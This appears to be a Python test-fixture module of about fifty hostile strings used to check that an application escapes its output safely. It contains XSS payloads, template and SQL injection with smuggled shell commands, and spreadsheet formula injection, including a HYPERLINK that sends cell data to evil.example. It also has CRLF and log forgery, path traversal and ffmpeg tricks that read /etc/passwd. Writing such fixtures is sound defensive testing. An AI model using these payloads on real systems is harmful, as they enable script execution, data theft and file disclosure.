"""Some fifty texts that are dangerous somewhere: in a page, a link, a table, a log, a terminal, a filter, a path.

Each holds a word of its own, so that a test can tell that none has vanished, within its first 60 characters, so that it
survives the shortest column. Whatever can run in a page runs RUN, which a browser test looks for.
"""

from typing import NamedTuple

RUN = "top.pwned=1"


class Hostile(NamedTuple):
    word: str  # what to look for
    text: str


_MARKUP = (
    "<script>RUN</script> WORD",
    "</title></textarea></script><script>RUN//WORD</script>",
    "<img src=x onerror=RUN> WORD",
    '"><svg onload=RUN> WORD',
    "'><svg/onload='RUN'> WORD",
    '" autofocus onfocus="RUN" x="WORD',
    "' onmouseover='RUN' x='WORD",
    "<iframe srcdoc='<script>RUN</script>'>WORD",
    "<details open ontoggle=RUN>WORD",
    "<math><mtext></form><form><mglyph><style></math>WORD",
    "<!--><img src=x onerror=RUN>--> WORD",
    "]]><script>RUN</script> WORD",
    "<div hx-get=/ hx-trigger=load hx-on::load=RUN>WORD",
    '<div x-data x-init="RUN">WORD</div>',
    "<base href=https://evil.example/> WORD",
    "<style>@import'//evil.example/WORD'</style>",
    "WORD <meta http-equiv=refresh content=0;javascript:RUN>",
    "</p><button formaction=javascript:RUN>WORD",
)
_TEMPLATES = (
    "{{ request.user.password }} WORD",
    "{% load static %}{% csrf_token %} WORD",
    "${RUN} `WORD` {{constructor.constructor('RUN')()}}",
    "'; RUN; var WORD='",
    '\\"; RUN; //WORD',
    "WORD %(password)s %s %d %n",
    "WORD {0} {} {self.__class__} {x!r}",
)
_LINKS = (
    "javascript:RUN//WORD",
    "java\tscript:RUN//WORD",
    "data:text/html,<script>RUN</script>WORD",
    "https://bank.example@evil.example/WORD",
    "https://evil.example\\@bank.example/WORD",
)
_ENTITIES = (
    "&lt;script&gt;RUN&lt;/script&gt; &amp;WORD;",
    "&#60;img src=x onerror=RUN&#62; WORD &#0; &#x0D;",
    "%3Cscript%3ERUN%3C/script%3E WORD %00 \\0 \\x00",
    "+ADw-script+AD4-RUN+ADw-/script+AD4- WORD",
)
_TABLES = (
    "=cmd|' /C calc'!A0 WORD",
    '=HYPERLINK("http://evil.example/?"&A1,"WORD")',
    "+1+1 WORD",
    "-1+1 WORD",
    "@SUM(1+1) WORD",
    "'=1+1 WORD",
    'a",=1+1,"WORD',
)
_LINES = (
    "WORD\r\nSet-Cookie: pwned=1\r\n\r\n<script>RUN</script>",
    "WORD\n2026-11-02T10:00:00Z [critical ] pwned",
    "\x1b[2J\x1b[31mWORD\x1b]0;pwned\x07",
    "WORD \u202egpj.exe \u2066hidden\u2069",
    "a\u200bb \ufeff\u200e\u2028\u0085 WORD",
)
_REST = (
    "WORD [a];movie=/etc/passwd[b];[a][b]overlay,drawtext=text='x':textfile=/etc/passwd",
    "WORD' file '/etc/passwd\\\nfile '\\''..\\N%{expr}",
    "../../../../etc/WORD/%2e%2e%2fpasswd",
    "WORD'; DROP TABLE jobs_asset; -- $(touch /tmp/pwned) `id` | & ;",
    "WORD " + "A\u0301\u0302\u0303\u0304" * 12 + " \U0001f468\u200d\U0001f469\u200d\U0001f467 \u0e01\u0e33",
    "WORD" + "W" * 3000,
)
_ALL = (*_MARKUP, *_TEMPLATES, *_LINKS, *_ENTITIES, *_TABLES, *_LINES, *_REST)


def _hostile(number: int, text: str) -> Hostile:
    word = f"zq{number:02}x"
    return Hostile(word, text.replace("RUN", RUN).replace("WORD", word))


HOSTILE = tuple(_hostile(number, text) for number, text in enumerate(_ALL))
# What no database takes as text; forms, tables and logs meet it all the same.
UNSTORABLE = (Hostile("zqnulx", "a\x00b\x01 zqnulx"), Hostile("zqhalfx", "a\ud800b zqhalfx"))


def cut(text: str, length: int) -> str:
    """As a column of that length takes it."""
    return text[:length]
